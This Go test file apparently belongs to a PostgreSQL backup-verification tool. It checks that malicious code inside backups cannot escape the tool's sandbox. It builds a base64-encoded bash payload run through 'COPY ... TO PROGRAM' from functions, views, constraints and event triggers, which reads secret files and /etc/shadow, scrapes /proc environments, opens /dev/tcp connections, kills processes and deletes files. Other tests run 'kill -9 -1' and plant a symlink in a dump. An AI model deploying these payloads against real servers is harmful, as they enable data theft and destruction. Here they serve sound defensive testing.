package main

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/lifeboat-dr/lifeboat/pkg/postgres/pgtest"
)

// These tests are of somebody who can write the backups. Code that a backup
// brings along runs for real, in the real server, and tries to get out: as root
// and as an ordinary user. Canaries outside decide, not messages: files that
// must stay unread and unchanged, listeners that must get no connection,
// processes that must live and others that must not.

const ordinary = 65534

// quickPlan has of the built-in checks the one that makes something in the copy,
// and so fires event triggers.
const quickPlan = smallPlan + "        builtinChecks: {heapRead: false, invalidIndexes: false}\n"

// attack is a working folder with canaries around it.
type attack struct {
	*cli
	secret    string // a file of the user's own
	open      string // a file that everybody may read and write
	shadow    string // what only root may read
	evidence  string
	other     string // of another drill
	bystander *exec.Cmd
	daemon    string // an argument by which a daemon of the backup is known
	tcp       net.Listener
	unix      net.Listener
	met       chan string
}

// attacked sets the canaries out, for the user with this number.
func attacked(t *testing.T, uid int) *attack {
	t.Helper()
	root, err := os.MkdirTemp("", "lba")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(root) })
	c := newCLI(t)
	c.dir = filepath.Join(root, "a user's folder")
	a := &attack{
		cli: c, secret: filepath.Join(c.dir, "secret"), open: filepath.Join(root, "open"), shadow: "/etc/shadow",
		evidence: filepath.Join(c.dir, ".lifeboat", "evidence", "earlier.json"), other: filepath.Join(c.dir, ".lifeboat", "scratch", "another", "data", "rows"),
		daemon: fmt.Sprint(1_000_000_000 + time.Now().UnixNano()%1_000_000_000), met: make(chan string, 16),
	}
	for path, mode := range map[string]os.FileMode{a.secret: 0o600, a.open: 0o666, a.evidence: 0o600, a.other: 0o666} {
		must(t, os.MkdirAll(filepath.Dir(path), 0o755))
		must(t, os.WriteFile(path, []byte("canary\n"), mode))
		must(t, os.Chmod(path, mode))
	}
	must(t, os.Chmod(root, 0o755))
	a.tcp, err = net.Listen("tcp", ":0")
	must(t, err)
	a.unix, err = net.Listen("unix", filepath.Join(c.dir, "socket"))
	must(t, err)
	must(t, os.Chmod(filepath.Join(c.dir, "socket"), 0o777))
	for _, l := range []net.Listener{a.tcp, a.unix} {
		t.Cleanup(func() { l.Close() })
		go func() {
			for {
				conn, err := l.Accept()
				if err != nil {
					return
				}
				a.met <- "somebody connected to " + l.Addr().String()
				conn.Close()
			}
		}()
	}
	a.bystander = exec.Command("sleep", "600")
	if uid != os.Geteuid() {
		a.credential = &syscall.Credential{Uid: uint32(uid), Gid: uint32(uid)}
		a.bystander.SysProcAttr = &syscall.SysProcAttr{Credential: a.credential}
		a.give()
	}
	must(t, a.bystander.Start())
	t.Cleanup(func() { a.bystander.Process.Kill(); a.bystander.Wait() })
	c.write("lifeboat.yaml", quickPlan)
	a.give()
	return a
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// give makes everything in the working folder the user's own.
func (a *attack) give() {
	if a.credential == nil {
		return
	}
	if out, err := exec.Command("chown", "-R", fmt.Sprint(a.credential.Uid), a.dir).CombinedOutput(); err != nil {
		a.t.Fatalf("%v: %s", err, out)
	}
}

// program is what the code in a backup runs: a command of the shell that
// tries everything. What it gets goes into files of its own data directory.
func (a *attack) program() string {
	script := fmt.Sprintf(`
echo ran >> loot
cat %[1]q %[2]q %[4]q %[5]q >> loot 2>/dev/null
head -c 1 %[3]q >/dev/null 2>&1 && echo canary of root read >> loot
for f in %[1]q %[2]q %[4]q %[5]q; do echo owned >> $f; rm -f $f; done 2>/dev/null
for f in /proc/[0-9]*/environ /proc/[0-9]*/root%[1]q /proc/[0-9]*/cwd/secret; do grep -a -s canary $f >> loot; done
exec 3<>/dev/tcp/127.0.0.1/%[6]d && echo canary connected >> loot
for ip in $(hostname -I 2>/dev/null) %[7]s; do timeout 1 bash -c "exec 3<>/dev/tcp/$ip/%[6]d" && echo canary connected >> loot; done
perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, sockaddr_un($ARGV[0])) and print "canary connected\n"' %[8]q >> loot
kill -9 %[9]d && echo canary killed >> loot
unshare -Ur true && echo canary nested >> loot
unshare -Urmp --fork true && echo canary nested >> loot
mkdir -p mnt; mount -t tmpfs x mnt && echo canary mounted >> loot
ls -A %[10]q | grep -q secret && echo canary listed >> loot
id -u >> loot
(setsid sh -c '(exec sleep %[11]s) &' </dev/null >/dev/null 2>&1 &)
true
`, a.secret, a.open, a.shadow, a.evidence, a.other, a.tcp.Addr().(*net.TCPAddr).Port, hostAddresses(), filepath.Join(a.dir, "socket"),
		a.bystander.Process.Pid, a.dir, a.daemon)
	return "echo " + base64.StdEncoding.EncodeToString([]byte(script)) + " | base64 -d | bash"
}

func hostAddresses() string {
	var all []string
	addresses, _ := net.InterfaceAddrs()
	for _, address := range addresses {
		if ip, ok := address.(*net.IPNet); ok && ip.IP.To4() != nil && !ip.IP.IsLoopback() {
			all = append(all, ip.IP.String())
		}
	}
	return strings.Join(all, " ")
}

// drillAndLook drills up to the moment before the copy is removed, returns what
// the code got, and kills lifeboat: its sandbox must not outlive it.
func (a *attack) drillAndLook() (loot string) {
	a.t.Helper()
	cmd := a.command("drill")
	cmd.Env = append(a.env[:len(a.env):len(a.env)], "LIFEBOAT_TEST_PAUSE=before:cleanup", "AWS_SECRET_ACCESS_KEY=canary of the environment")
	stderr, err := cmd.StderrPipe()
	must(a.t, err)
	must(a.t, cmd.Start())
	lines := bufio.NewScanner(stderr)
	for lines.Scan() && !strings.Contains(lines.Text(), "reached") {
		a.t.Log(lines.Text())
	}
	files, _ := filepath.Glob(filepath.Join(a.dir, ".lifeboat", "scratch", "lifeboat-*", "data", "loot"))
	for _, path := range files {
		raw, _ := os.ReadFile(path)
		loot += string(raw)
	}
	must(a.t, cmd.Process.Kill())
	_ = cmd.Wait() // killed, on purpose
	for range 100 {
		if !a.daemonLives() {
			return loot
		}
		time.Sleep(20 * time.Millisecond)
	}
	a.t.Error("a daemon outlived a lifeboat that was killed")
	return loot
}

func (a *attack) daemonLives() bool {
	files, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, file := range files {
		if text, err := os.ReadFile(file); err == nil && bytes.Contains(text, []byte("sleep\x00"+a.daemon)) {
			return true
		}
	}
	return false
}

// untouched looks at the canaries.
func (a *attack) untouched() {
	a.t.Helper()
	for _, path := range []string{a.secret, a.open, a.evidence, a.other} {
		if raw, err := os.ReadFile(path); err != nil || string(raw) != "canary\n" {
			a.t.Errorf("%s was changed: %q, %v", path, raw, err)
		}
	}
	select {
	case what := <-a.met:
		a.t.Error(what)
	default:
	}
	if err := a.bystander.Process.Signal(syscall.Signal(0)); err != nil {
		a.t.Errorf("a process outside was ended: %v", err)
	}
	if a.daemonLives() {
		a.t.Error("a daemon outlived the drill")
	}
}

// asEveryUser runs a test as root and as an ordinary user, as far as it may.
func asEveryUser(t *testing.T, test func(t *testing.T, uid int)) {
	t.Helper()
	if _, err := os.Stat("/proc/self/ns/user"); err != nil {
		t.Skip("no sandbox on this platform")
	}
	if os.Geteuid() != 0 {
		t.Run("as an ordinary user", func(t *testing.T) { test(t, os.Geteuid()) })
		return
	}
	t.Run("as root", func(t *testing.T) { test(t, 0) })
	t.Run("as an ordinary user", func(t *testing.T) { test(t, ordinary) })
}

// hostile is a live server whose owner means harm: code that does nothing where
// cluster_name is source, and everything in a copy.
func hostile(t *testing.T, major int) *pgtest.Source {
	s := pgtest.Start(t, pgtest.Options{Major: major, Checksums: true, Settings: map[string]string{"cluster_name": "source"}})
	s.Exec("postgres", "create database shop")
	s.Exec("shop", "create table orders (id int primary key, at timestamptz not null); insert into orders select n, now() from generate_series(1, 1000) n")
	return s
}

// evil makes a function that runs the attack.
func (a *attack) evil(s *pgtest.Source) {
	s.Exec("shop", fmt.Sprintf(`create or replace function evil() returns boolean language plpgsql as $f$ begin
		if current_setting('cluster_name') <> 'source' and pg_stat_file('loot', true) is null then execute $c$copy (select 1) to program $p$%s$p$ $c$; end if; return true; end $f$`, a.program()))
}

// backups of one that means harm. Each returns whether its code must have run:
// what a filter may hold up is no reason to fail.
var hostileBackups = map[string]struct {
	major int
	make  func(a *attack, s *pgtest.Source) (runs bool)
}{
	"a base backup whose table is a view with a function": {0, func(a *attack, s *pgtest.Source) bool {
		a.evil(s)
		s.Exec("shop", "alter table orders rename to o; create view orders as select * from o where evil()")
		a.base(s)
		return true
	}},
	"a base backup with an event trigger": {15, func(a *attack, s *pgtest.Source) bool {
		a.evil(s)
		s.Exec("shop", `create function on_ddl() returns event_trigger language plpgsql as $f$ begin perform evil(); end $f$;
			create event trigger t on ddl_command_start execute function on_ddl(); alter event trigger t enable always`)
		a.base(s)
		return false // the checks disable it before they make anything: TestBuiltInChecksCallNothingOfTheCopys
	}},
	"an archive with a function in a check": {15, func(a *attack, s *pgtest.Source) bool {
		a.evil(s)
		s.Exec("shop", "alter table orders add check (evil())")
		a.dump(s, "-Fc")
		return true
	}},
	"a directory archive with a function in a check": {15, func(a *attack, s *pgtest.Source) bool {
		a.evil(s)
		s.Exec("shop", "alter table orders add check (evil())")
		a.dump(s, "-Fd")
		return true
	}},
	"a plain dump with a function in a check": {15, func(a *attack, s *pgtest.Source) bool {
		a.evil(s)
		s.Exec("shop", "alter table orders add check (evil())")
		a.dump(s, "-Fp")
		return true
	}},
	// What a filter of statements may hold up, and may not.
	"a plain dump with odd spellings": {15, func(a *attack, s *pgtest.Source) bool {
		a.insert(s, fmt.Sprintf("DO $d$ begin execute 'co' || 'py (select 1) to program ' || quote_literal($p$%[1]s$p$); end $d$;\n"+
			"create table public.x (a text);\nCOPY\tpublic.x FROM PROGRAM $p$%[1]s$p$;\n/**/COPY public.x FROM PROGRAM $p$%[1]s$p$;\n", a.program()))
		return false
	}},
}

func (a *attack) base(s *pgtest.Source) {
	a.t.Helper()
	as := a.credential
	a.credential = nil // the live server is not the ordinary user's
	if code, _, stderr := a.run("backup", "--url", s.URL("postgres"), "--to", "backups"); code != 0 {
		a.t.Fatalf("backup: exit %d, %s", code, stderr)
	}
	a.credential = as
	a.give()
}

func (a *attack) dump(s *pgtest.Source, format ...string) string {
	a.t.Helper()
	path := filepath.Join(a.dir, "backups", "dump")
	must(a.t, os.MkdirAll(filepath.Dir(path), 0o700))
	if !s.Bin.Has("pg_dump") {
		a.t.Skip("no pg_dump beside ", s.Bin)
	}
	if out, err := exec.Command(s.Bin.Path("pg_dump"), append(format, "-f", path, s.URL("shop"))...).CombinedOutput(); err != nil {
		a.t.Fatalf("%v: %s", err, out)
	}
	must(a.t, os.Chmod(path, 0o700))
	a.give()
	return path
}

// insert puts statements into a plain dump, before its end.
func (a *attack) insert(s *pgtest.Source, statements string) {
	path := a.dump(s, "-Fp")
	raw, err := os.ReadFile(path)
	must(a.t, err)
	const end = "--\n-- PostgreSQL database dump complete\n"
	must(a.t, os.WriteFile(path, []byte(strings.Replace(string(raw), end, statements+"\n"+end, 1)), 0o600))
	a.give()
}

func TestCodeInABackupGetsNowhere(t *testing.T) {
	if testing.Short() {
		t.Skip("real servers, many times: not in the short tests")
	}
	asEveryUser(t, func(t *testing.T, uid int) {
		for name, tc := range hostileBackups {
			t.Run(name, func(t *testing.T) {
				a := attacked(t, uid)
				runs := tc.make(a, hostile(t, tc.major))
				loot := a.drillAndLook()
				if !strings.Contains(loot, "ran\n") {
					if runs {
						t.Error("the attack did not run: nothing was tested")
					}
					t.Log("the code did not run")
				}
				if strings.Contains(loot, "canary") || strings.Contains(loot, "\n0\n") {
					t.Errorf("it got:\n%s", loot)
				}
				a.untouched()
				if code, _, stderr := a.run("sweep"); code != 0 {
					t.Errorf("sweep: exit %d: %s", code, stderr)
				}
				// Once more, to its own end.
				if code, _ := a.drill(); code > exitFailureClean {
					t.Errorf("exit %d", code)
				}
				a.untouched()
				must(t, os.RemoveAll(filepath.Join(a.dir, ".lifeboat", "scratch", "another")))
				a.nothingLeft()
			})
		}
	})
}

// TestACopyThatKillsEverything it can reach ends a drill in order: with
// evidence, and nothing left.
func TestACopyThatKillsEverything(t *testing.T) {
	asEveryUser(t, func(t *testing.T, uid int) {
		for name, program := range map[string]string{"kills": "kill -9 -1", "stops": "kill -STOP -1", "ends init": "kill -9 1; kill -TERM 1; kill -QUIT 1"} {
			t.Run(name, func(t *testing.T) {
				a := attacked(t, uid)
				s := hostile(t, 0)
				s.Exec("shop", `create function evil() returns boolean language plpgsql as $f$ begin
					if pg_stat_file('loot', true) is null then copy (select 1) to program 'touch loot; `+program+`'; end if; return true; end $f$; alter table orders rename to o; create view orders as select * from o where evil()`)
				a.base(s)
				a.write("lifeboat.yaml", strings.Replace(quickPlan, "        checks:\n", "        limits: {validate: 5s, statement: 3s}\n        checks:\n", 1))
				a.give()
				code, summary := a.drill()
				if code != exitFailureClean && code != exitObjectivesMissed || summary.Evidence == "" {
					t.Errorf("exit %d, %+v", code, summary)
				}
				a.untouched()
				must(t, os.RemoveAll(filepath.Join(a.dir, ".lifeboat", "scratch", "another")))
				a.nothingLeft()
			})
		}
	})
}

// TestWithoutNamespaces: what a drill is on machines that have less.
func TestWithoutNamespaces(t *testing.T) {
	asEveryUser(t, func(t *testing.T, uid int) {
		a := attacked(t, uid)
		s := hostile(t, 0)
		a.base(s)
		with := func(kind, plan string) (int, string) {
			a.write("lifeboat.yaml", plan)
			a.give()
			env := a.env
			a.env = append(env[:len(env):len(env)], "LIFEBOAT_TEST_SANDBOX="+kind)
			defer func() { a.env = env }()
			code, stdout, stderr := a.run("drill")
			return code, stdout + stderr
		}
		if code, said := with("none", smallPlan); code != exitFailureClean || !strings.Contains(said, "RestoreRefused") || !strings.Contains(said, "trust: backup") {
			t.Errorf("no sandbox: exit %d, %s", code, said)
		}
		trusting := strings.Replace(smallPlan, "database: shop}", "database: shop, trust: backup}", 1)
		if code, said := with("none", trusting); code != 0 || !strings.Contains(said, "NoSandbox") {
			t.Errorf("no sandbox, and trust: exit %d, %s", code, said)
		}
		if code, said := with("Landlock", smallPlan); code != 0 && !strings.Contains(said, "trust: backup") || code == 0 && !strings.Contains(said, "WeakerSandbox") {
			t.Errorf("Landlock: exit %d, %s", code, said)
		}
		must(t, os.RemoveAll(filepath.Join(a.dir, ".lifeboat", "scratch", "another")))
		a.nothingLeft()
	})
}

// TestCodeUnderLandlock is the same attack where the kernel refuses user
// namespaces.
func TestCodeUnderLandlock(t *testing.T) {
	// The kernel is asked, not the drill: a drill that finds no Landlock where
	// there is one is what this test must see.
	const createRuleset, version = 444, 1 // landlock_create_ruleset(2), the same number on every architecture
	if _, _, errno := syscall.Syscall(createRuleset, 0, 0, version); errno != 0 {
		t.Skipf("this kernel has no Landlock: %v", errno)
	}
	asEveryUser(t, func(t *testing.T, uid int) {
		a := attacked(t, uid)
		a.env = append(a.env, "LIFEBOAT_TEST_SANDBOX=Landlock")
		s := hostile(t, 0)
		a.evil(s)
		s.Exec("shop", "alter table orders rename to o; create view orders as select * from o where evil()")
		a.base(s)
		code, summary := a.drill()
		if code > exitObjectivesMissed {
			t.Errorf("exit %d, %+v", code, summary.Findings)
		}
		a.untouched()
		must(t, os.RemoveAll(filepath.Join(a.dir, ".lifeboat", "scratch", "another")))
		a.nothingLeft()
	})
}

// TestALinkInADirectoryDump: pg_restore loads the files that a dump names. A
// link leads it to nothing but what the sandbox has.
func TestALinkInADirectoryDump(t *testing.T) {
	asEveryUser(t, func(t *testing.T, uid int) {
		for name, target := range map[string]string{"the user's own": "", "root's": "/root/.lifeboat-test-canary"} {
			t.Run(name, func(t *testing.T) {
				a := attacked(t, uid)
				if target == "" {
					target = a.secret
				} else if os.Geteuid() != 0 {
					t.Skip("not root: nothing of root's can be made")
				}
				canary := "canary of " + a.daemon
				must(t, os.WriteFile(target, []byte(canary+"\n\\.\n"), 0o600))
				t.Cleanup(func() { os.Remove(target) })
				s := hostile(t, 15)
				s.Exec("shop", "create table notes (text text); insert into notes values ('harmless words')")
				path := a.dump(s, "-Fd", "-Z0")
				files, _ := filepath.Glob(filepath.Join(path, "*.dat"))
				linked := false
				for _, file := range files {
					if raw, err := os.ReadFile(file); err == nil && strings.HasPrefix(string(raw), "harmless") {
						must(t, os.Remove(file))
						must(t, os.Symlink(target, file))
						linked = true
					}
				}
				if !linked {
					t.Fatal("the dump has no data file for the table")
				}
				a.give()
				a.drillAndLook()
				out, _ := exec.Command("grep", "-r", "-l", "-F", canary, filepath.Join(a.dir, ".lifeboat", "scratch")).CombinedOutput()
				if len(out) > 0 {
					t.Errorf("it was loaded: %s", out)
				}
			})
		}
	})
}
